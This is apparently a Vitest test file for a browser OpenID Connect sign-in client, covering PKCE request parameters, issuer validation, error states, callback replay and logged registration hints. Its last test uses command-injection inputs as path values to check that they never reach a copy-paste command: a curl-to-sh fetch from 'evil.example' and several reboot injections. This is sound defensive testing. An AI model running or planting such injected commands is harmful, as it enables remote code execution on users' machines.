import { describe, expect, test, vi } from 'vitest'
import { APP, createAuthScene, errorOf, ISSUER, userOf } from '../../test/auth/auth-scene.ts'
import { createAuth } from './create-auth.ts'

describe('the way to the hosted page', () => {
  test('the request carries PKCE S256, state and nonce, and no verifier', async () => {
    const { open } = await createAuthScene()
    const { auth, tab } = open()
    const screen_hint = 'otp_request'
    await auth.signIn({ login_hint: 'ada@example.org', ui_locales: 'de', screen_hint })
    const url = new URL(tab.left[0] ?? '')
    expect(url.origin + url.pathname).toBe(`${ISSUER}/oauth/authorize`)
    const sent = Object.fromEntries(url.searchParams)
    expect(sent).toMatchObject({
      response_type: 'code',
      client_id: 'spa',
      redirect_uri: `${APP}/callback`,
      scope: 'openid profile email',
      code_challenge_method: 'S256',
      login_hint: 'ada@example.org',
      ui_locales: 'de',
      screen_hint,
    })
    const [kept] = JSON.parse([...tab.session.values()][0] ?? '')
    expect(sent).toMatchObject({ state: kept.state, nonce: kept.nonce })
    expect(url.href).not.toContain(kept.code_verifier)
  })

  test.each([
    ['createAuth', { locale: 'de' }, {}, 'de'],
    ['signIn, before that of createAuth', { locale: 'de' }, { ui_locales: 'da en' }, 'da en'],
    ['nobody', {}, {}, null],
  ])('it asks for the language of %s', async (_, options, asked, ui_locales) => {
    const { open } = await createAuthScene(options)
    const { auth, tab } = open()
    await auth.signIn(asked)
    expect(new URL(tab.left[0] ?? '').searchParams.get('ui_locales')).toBe(ui_locales)
  })

  test('it asks for the language that start was told last', async () => {
    const scene = await createAuthScene({ locale: 'de' })
    const { auth, tab } = scene.open()
    await auth.start('fr')
    // What begins by itself names no language.
    await auth.start()
    await auth.signIn()
    expect(new URL(tab.left[0] ?? '').searchParams.get('ui_locales')).toBe('fr')
  })

  test.each([
    ['/signed-in', `${APP}/signed-in`],
    [`${APP}/signed-in`, `${APP}/signed-in`],
    ['https://app.example', 'https://app.example'],
  ])('redirect_uri %s is sent as %s', async (redirect_uri, sent) => {
    const { open } = await createAuthScene({ redirect_uri })
    const { auth, tab } = open()
    await auth.signIn()
    expect(new URL(tab.left[0] ?? '').searchParams.get('redirect_uri')).toBe(sent)
  })

  test('on a server nothing is touched before the start', () => {
    const ports = new Proxy({}, { get: () => expect.unreachable('the page was touched') })
    const auth = createAuth({ issuer: ISSUER, client_id: 'spa', ports: ports as never })
    expect([auth.getState().status, auth.mode]).toEqual(['starting', 'redirect'])
  })

  test.each([
    'http://id.example.org',
    'http://localhost.example.org',
    'ftp://localhost',
    'nothing',
  ])('the issuer %s is refused: http is for loopback hosts', (issuer) =>
    expect(() => createAuth({ issuer, client_id: 'spa' })).toThrow(TypeError),
  )

  test.each(['https://id.example.org', 'http://127.0.0.1:3000', 'http://[::1]:3000'])(
    'the issuer %s is accepted',
    (issuer) => expect(() => createAuth({ issuer, client_id: 'spa' })).not.toThrow(),
  )

  test('a network that is away becomes a state, and the next try asks again', async () => {
    const { issuer, open } = await createAuthScene()
    const page = open()
    issuer.instead.set('/.well-known/openid-configuration', 'away')
    await page.auth.signIn()
    expect(errorOf(page)).toBe('network')
    issuer.instead.clear()
    await page.auth.signIn()
    expect([errorOf(page), page.tab.left.length]).toEqual([undefined, 1])
  })

  test('a service that fails is told apart from one that is away', async () => {
    const { issuer, open } = await createAuthScene()
    const page = open()
    const failing = async () => new Response('<h1>Bad gateway</h1>', { status: 502 })
    issuer.instead.set('/.well-known/openid-configuration', failing)
    await page.auth.signIn()
    expect(errorOf(page)).toBe('unavailable')
  })

  test('an answer that does not come within 90 seconds is not waited for', async () => {
    const { issuer, open } = await createAuthScene()
    const page = open()
    await page.auth.start()
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
    const asked = new Promise<void>((resolve) => {
      issuer.instead.set('/.well-known/openid-configuration', () => {
        resolve()
        return new Promise(() => undefined)
      })
    })
    const signIn = page.auth.signIn()
    await asked
    await vi.advanceTimersByTimeAsync(90_000)
    vi.useRealTimers()
    await signIn
    expect(errorOf(page)).toBe('timeout')
  })
})

describe('the way back', () => {
  test('the code is redeemed with the same redirect_uri, and the person is known', async () => {
    const { issuer, open, signIn } = await createAuthScene()
    const page = await signIn(open(`${APP}/notes?page=2#top`))
    expect(userOf(page)).toMatchObject({
      sub: 'sub-1',
      name: 'Ada',
      email: 'ada@example.org',
      roles: ['authenticatedUser'],
      scopes: ['openid', 'profile', 'email'],
    })
    const exchange = issuer.asked.find(({ path }) => path === '/oauth/token')
    expect(exchange?.form).toMatchObject({ redirect_uri: `${APP}/callback`, client_id: 'spa' })
    expect(exchange?.form.client_secret).toBeUndefined()
    expect(page.events.map(({ type }) => type)).toEqual(['signed_in'])
  })

  test('the page is at the address again where the sign-in was begun, and routers are told', async () => {
    const { open, signIn } = await createAuthScene()
    const { tab } = await signIn(open(`${APP}/notes?page=2#top`))
    expect(tab.location.href).toBe(`${APP}/notes?page=2#top`)
    expect(tab.events).toEqual(['popstate'])
  })

  test('no credentials go to the endpoints, and none follows a redirect [API-02]', async () => {
    const { issuer, open, signIn } = await createAuthScene()
    await signIn(open())
    expect(new Set(issuer.asked.map(({ credentials }) => credentials))).toEqual(new Set(['omit']))
  })

  test('starting twice completes once, as StrictMode does', async () => {
    const { issuer, open } = await createAuthScene()
    const page = open()
    await page.auth.signIn()
    const back = open(issuer.authorize(page.tab.left[0]), page)
    await Promise.all([back.auth.start(), back.auth.start()])
    expect(userOf(back).sub).toBe('sub-1')
    expect(issuer.paths().filter((path) => path === '/oauth/token')).toHaveLength(1)
  })

  test.each(['access_denied', 'login_required'])(
    "the answer %s is the state's error",
    async (error) => {
      const { open, signIn } = await createAuthScene()
      const page = await signIn(open(`${APP}/notes`), { code: null, error })
      expect(page.auth.getState()).toEqual({
        status: 'signed-out',
        ended: false,
        error: { code: 'oidc_refused', data: { error } },
      })
      expect(page.tab.location.href).toBe(`${APP}/notes`)
    },
  )

  test('a callback that is opened twice signs nobody in a second time', async () => {
    const { issuer, open } = await createAuthScene({ storage: 'memory' })
    const page = open()
    await page.auth.signIn()
    const address = issuer.authorize(page.tab.left[0])
    await open(address, page).auth.start()
    const again = open(address, page)
    await again.auth.start()
    expect(errorOf(again)).toBe('oidc_not_begun')
    expect(again.tab.location.href).toBe(`${APP}/callback`)
  })

  test('an old callback does not sign out who is signed in', async () => {
    const { issuer, open, signIn } = await createAuthScene()
    const page = await signIn(open())
    const stale = open(`${APP}/callback?code=old&state=old&iss=${ISSUER}`, page)
    await stale.auth.start()
    expect(userOf(stale).sub).toBe('sub-1')
    expect(stale.events).toContainEqual({
      type: 'error',
      error: { code: 'oidc_not_begun', data: {} },
    })
    expect(issuer.paths().filter((path) => path === '/oauth/token')).toHaveLength(2)
  })

  test('several sign-ins of one tab are kept apart, and the oldest are dropped', async () => {
    const { issuer, open } = await createAuthScene()
    const page = open()
    for (const _ of Array(6)) await page.auth.signIn()
    const second = open(issuer.authorize(page.tab.left[1]), page)
    await second.auth.start()
    expect(userOf(second).sub).toBe('sub-1')
    const oldest = open(issuer.authorize(page.tab.left[0]), page)
    await oldest.auth.start()
    expect(oldest.events.map(({ type }) => type)).toContain('error')
  })

  test.each(['?code=of-something-else', '?state=alone', '?q=code'])(
    'an address with %s is left alone',
    async (query) => {
      const { open } = await createAuthScene()
      const { auth, tab } = open(`${APP}/callback${query}`)
      await auth.start()
      expect(auth.getState()).toEqual({ status: 'signed-out', ended: false, error: null })
      expect(tab.location.href).toBe(`${APP}/callback${query}`)
    },
  )

  test('an answer at another path than the registered one is left alone', async () => {
    const { open } = await createAuthScene()
    const { auth, tab } = open(`${APP}/other?code=1&state=2`)
    await auth.start()
    expect(tab.location.href).toBe(`${APP}/other?code=1&state=2`)
  })

  test('a service that knows the origin otherwise is named to the developer, once for a page', async () => {
    const log = vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const { issuer, open, signIn } = await createAuthScene()
    const page = await signIn(open())
    issuer.instead.set('/oauth/token', 'away')
    const reloaded = open(undefined, page)
    await reloaded.auth.start()
    await expect(reloaded.auth.fetch(`${APP}/api`)).rejects.toMatchObject({
      code: 'wrong_registration',
    })
    expect(log).toHaveBeenCalledTimes(1)
    log.mockRestore()
  })

  test.each([
    ['development', 1],
    ['production', 0],
  ])('in %s the state says what to register, and the console %d times', async (mode, times) => {
    vi.stubEnv('NODE_ENV', mode)
    const log = vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const { issuer, open, signIn } = await createAuthScene()
    issuer.instead.set('/oauth/token', 'away')
    const page = await signIn(open())
    const data = { client_id: 'spa', origin: APP, redirect_uri: `${APP}/callback` }
    expect(page.auth.getState()).toMatchObject({ error: { code: 'wrong_registration', data } })
    const command = `npm run client -- add spa --origin ${APP} (or`
    expect(log.mock.calls).toEqual(Array(times).fill([expect.stringContaining(command)]))
    log.mockRestore()
    vi.unstubAllEnvs()
  })

  test.each([';curl$IFS-sL$IFS$9evil.example|sh', '$(reboot)', '`reboot`', '&reboot', "'"])(
    'a command to copy contains nothing of a path that ends in %s',
    async (path) => {
      const log = vi.spyOn(console, 'error').mockImplementation(() => undefined)
      const { issuer, open, signIn } = await createAuthScene({ redirect_uri: `${APP}/a${path}` })
      issuer.instead.set('/oauth/token', 'away')
      const { auth } = await signIn(open())
      expect(auth.getState()).toMatchObject({ error: { code: 'wrong_registration' } })
      expect(JSON.stringify(log.mock.calls)).toContain('--redirect … ')
      expect(JSON.stringify(log.mock.calls)).not.toContain(path)
      log.mockRestore()
    },
  )
})
